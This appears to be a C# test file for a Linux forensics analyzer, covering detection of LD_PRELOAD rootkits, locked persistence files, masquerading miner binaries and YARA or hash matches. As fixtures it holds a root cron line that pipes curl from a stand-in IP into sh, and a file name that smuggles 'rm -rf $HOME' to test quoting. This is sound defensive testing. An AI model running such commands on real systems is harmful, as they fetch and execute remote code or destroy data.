using Forensics.Analyzer.Detectors;
using Forensics.Analyzer.Evidence;
using Forensics.Analyzer.Risk;
using Forensics.Analyzer.Tests.Rules;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Detectors;

public sealed class FileTests
{
    private static readonly string[] Hiding = ["fopen", "readdir", "readdir64"];

    private static Finding Only(Case host, string rule) => Assert.Single(host.Judge(), finding => finding.Rule.Id == rule);

    [Fact]
    public void A_preloaded_library_that_hides_things_is_critical()
    {
        Case host = Case.Debian().Elf("/usr/local/lib/libsys.so", interposed: Hiding, library: true).Preload("/usr/local/lib/libsys.so");
        Finding finding = Only(host, "L-LDPRELOAD.rootkit");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains(": > /etc/ld.so.preload", finding.Remediation);
        Assert.Contains("rm /usr/local/lib/libsys.so", finding.Remediation);
        Assert.DoesNotContain(host.Judge(), finding => finding.Rule.Id == "L-LDPRELOAD.interposing-library");
    }

    [Fact]
    public void Missing_misplaced_plain_and_known_libraries_are_graded()
    {
        Assert.Equal(Severity.Critical, Only(Case.Debian().Preload("/usr/local/lib/gone.so"), "L-LDPRELOAD.missing-library").Severity);
        Assert.Equal(Severity.Critical, Only(Case.Debian().Elf("/etc/libsystem.so", library: true).Preload("/etc/libsystem.so"), "L-LDPRELOAD.odd-place").Severity);
        Assert.Equal(Severity.High, Only(Case.Debian().Elf("/usr/lib/libx.so", library: true).Preload("/usr/lib/libx.so"), "L-LDPRELOAD.library").Severity);
        Assert.Equal(Severity.Low, Only(Case.Debian().Elf("/lib/x86_64-linux-gnu/libsnoopy.so", interposed: ["execv", "execve"], library: true).Preload("/lib/x86_64-linux-gnu/libsnoopy.so"), "L-LDPRELOAD.known-product").Severity);
        Assert.Equal(Severity.Low, Only(Case.Debian().Elf("/usr/lib/arm-linux-gnueabihf/libarmmem-v7l.so", library: true)
            .Preload("/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so", true, "/usr/lib/arm-linux-gnueabihf/libarmmem-aarch64.so", "/usr/lib/arm-linux-gnueabihf/libarmmem-v7l.so"), "L-LDPRELOAD.known-product").Severity);
    }

    [Fact]
    public void A_copy_of_the_preload_file_counts_less_and_an_empty_one_is_information()
    {
        Assert.Equal(Severity.High, Only(Case.Debian().Preload("/usr/local/lib/gone.so", active: false), "L-LDPRELOAD.missing-library").Severity);
        Case empty = Case.Debian();
        empty.Add(new PreloadFile(empty.At("/etc/ld.so.preload")) { LibraryCount = 0, IsActive = true });
        Assert.Equal(Severity.Info, Assert.Single(empty.Judge()).Severity);
    }

    [Theory]
    [InlineData("/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-sysv.so")]
    [InlineData("/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1")]
    [InlineData("/usr/libexec/coreutils/libstdbuf.so")]
    [InlineData("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")]
    [InlineData("/usr/lib/x86_64-linux-gnu/libc.so.6")]
    public void Honest_interposers_are_silent(string path) => Assert.Empty(Case.Debian().Elf(path, interposed: ["stat", "open", "readdir"], library: true).Judge());

    [Fact]
    public void An_interposer_that_nothing_loads_is_high() =>
        Assert.Equal(Severity.High, Only(Case.Debian().Elf("/usr/local/lib/libprocesshider.so", interposed: Hiding, library: true), "L-LDPRELOAD.interposing-library").Severity);

    [Fact]
    public void One_interposed_name_is_not_enough() => Assert.Empty(Case.Debian().Elf("/usr/lib/libpam.so.0", interposed: ["pam_authenticate"], library: true).Judge());

    [Theory]
    [InlineData("/var/spool/cron/root", 0x30u, Severity.High)]
    [InlineData("/etc/systemd/system/a.service", 0x10u, Severity.High)]
    [InlineData("/etc/passwd", 0x10u, Severity.Medium)]
    [InlineData("/root/.bashrc", 0x20u, Severity.High)]
    public void Locked_files_of_persistence_are_told(string path, uint flags, Severity expected)
    {
        Finding finding = Assert.Single(Case.Debian().File(path, ContentKind.Text, flags: flags | 0x80000).Judge());
        Assert.StartsWith("L-IMMUT.", finding.Rule.Id, StringComparison.Ordinal);
        Assert.Equal(expected, finding.Severity);
        Assert.Equal(["chattr -ia " + path], finding.Remediation);
    }

    [Fact]
    public void Resolv_conf_and_ordinary_files_are_silent()
    {
        Assert.Empty(Case.Debian().File("/etc/resolv.conf", ContentKind.Text, flags: 0x80010).Judge());
        Assert.Empty(Case.Debian().File("/srv/archive/x", ContentKind.Binary, flags: 0x80010).Judge());
    }

    [Fact]
    public void A_vaccine_is_information_that_names_both_readings()
    {
        Case host = Case.Debian().File("/tmp/kdevtmpfsi", ContentKind.Empty, size: 0, mode: 0, flags: 0x80010).File("/tmp/kinsing", ContentKind.Text, size: 1, flags: 0x80010);
        Assert.Equal(Severity.Info, host.Worst());
        Assert.All(host.Judge(), finding => Assert.Contains("rivals", finding.Message));
    }

    [Theory]
    [InlineData("/usr/bin/kswapd0", "L-MASQ.kernel-thread-name")]
    [InlineData("/usr/sbin/[kworker]", "L-MASQ.kernel-thread-name")]
    [InlineData("/tmp/kdevtmpfsi", "L-MASQ.kernel-thread-name")]
    [InlineData("/usr/bin/bprofr", "L-MASQ.near-system-name")]
    [InlineData("/var/tmp/sshd", "L-MASQ.system-name-elsewhere")]
    public void Programs_with_borrowed_names_are_high(string path, string rule) => Assert.Equal(Severity.High, Only(Case.Debian().Elf(path), rule).Severity);

    [Fact]
    public void The_real_owners_of_names_are_silent()
    {
        Assert.Empty(Case.Debian().Elf("/usr/sbin/watchdog").Elf("/usr/sbin/sshd").Elf("/usr/lib/systemd/systemd-sysupdate").Elf("/usr/bin/[").Judge());
        Assert.Empty(Case.Debian().File("/usr/share/man/man9/kworker", ContentKind.Text).Judge());
    }

    [Fact]
    public void Binaries_in_odd_places_are_graded()
    {
        Assert.Equal(Severity.Medium, Only(Case.Debian().Elf("/tmp/x"), "L-EXECLOC.temporary").Severity);
        Assert.Equal(Severity.High, Only(Case.Debian().Elf("/tmp/.X2t-unix/.rsync/c/aptitude"), "L-EXECLOC.temporary").Severity);
        Assert.Equal(Severity.High, Only(Case.Debian().Elf("/etc/32678", packed: true), "L-EXECLOC.odd-directory").Severity);
        Assert.Equal(Severity.Info, Case.Debian().Elf("/tmp/go-build123/b001/exe/main").Worst());
        Assert.Empty(Case.Debian().Elf("/boot/vmlinux-6.1").Elf("/home/a/.nvm/versions/node/v20/bin/node").Elf("/usr/bin/ls").Judge());
    }

    [Fact]
    public void Yara_severity_comes_from_its_meta()
    {
        Finding finding = Only(Case.Debian().Yara("/srv/a.php", "Webshell_X", ("severity", "critical"), ("author", "Jane"), ("reference", "https://ref.example"), ("mitre_att", "T1505.003"), ("description", "PHP web shell")), "YARA.Webshell_X");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("Jane", finding.Message);
        Assert.Contains("https://ref.example", finding.Message);
        Assert.Equal(["T1505.003"], finding.Rule.Techniques);
        Assert.Equal(Severity.High, Only(Case.Debian().Yara("/srv/a", "R", ("score", "85")), "YARA.R").Severity);
        Assert.Equal(Severity.Medium, Only(Case.Debian().Yara("/srv/a", "R"), "YARA.R").Severity);
    }

    [Fact]
    public void A_known_hash_is_critical_and_by_md5_only_high()
    {
        Case host = Case.Debian();
        host.Add(new HashMatch(host.At("/srv/a")) { Algorithm = "sha256", Hash = new string('a', 64), Name = "Kinsing", Source = "list.csv" },
            new HashMatch(host.At("/srv/a")) { Algorithm = "md5", Hash = new string('a', 32), Source = "list.csv" }, new HashMatch(host.At("/srv/b")) { Algorithm = "md5", Hash = new string('b', 32), Source = "list.csv" });
        IReadOnlyList<Finding> findings = host.Judge();
        Assert.Equal([Severity.Critical, Severity.High], findings.Select(finding => finding.Severity));
        Assert.Contains("Kinsing", findings[0].Message);
    }

    [Fact]
    public void Every_finding_comes_from_a_rule_its_detector_lists_and_rule_ids_are_unique()
    {
        IReadOnlyList<IDetector> detectors = Catalog.Detectors(ShippedRules.All);
        string[] ids = [.. detectors.SelectMany(detector => detector.Rules).Select(rule => rule.Id)];
        Assert.Equal(ids.Length, ids.Distinct().Count());
        Assert.All(detectors.SelectMany(detector => detector.Rules), rule => Assert.NotEmpty(rule.Title));
        Assert.All(detectors.SelectMany(detector => detector.Rules), rule => Assert.All(rule.Techniques, technique => Assert.Matches(@"^T[0-9]{4}(\.[0-9]{3})?$", technique)));
        Case host = Case.Debian().User("sysadm", 0).UserCron("root", "* * * * *", "curl http://203.0.113.9/x|sh").Elf("/tmp/x").Preload("/tmp/a.so").Key("/root/.ssh/authorized_keys");
        Assert.All(host.Judge(), finding => Assert.Contains(finding.Rule.Id, ids));
    }

    [Fact]
    public void Every_detector_of_the_program_is_in_the_catalog()
    {
        Type[] all = [.. typeof(IDetector).Assembly.GetTypes().Where(type => type is { IsClass: true, IsAbstract: false } && type.IsAssignableTo(typeof(IDetector)))];
        Assert.Empty(all.Except(Catalog.Detectors(ShippedRules.All).Select(detector => detector.GetType())));
    }

    [Fact]
    public void Hostile_names_never_become_commands()
    {
        const string path = "/tmp/.x\\x0a; rm -rf $HOME `id` 'q";
        Finding finding = Only(Case.Debian().Elf(path), "L-EXECLOC.temporary");
        Assert.Contains("rm $'/tmp/.x\\x0a; rm -rf $HOME `id` \\'q'", finding.Remediation);
    }
}
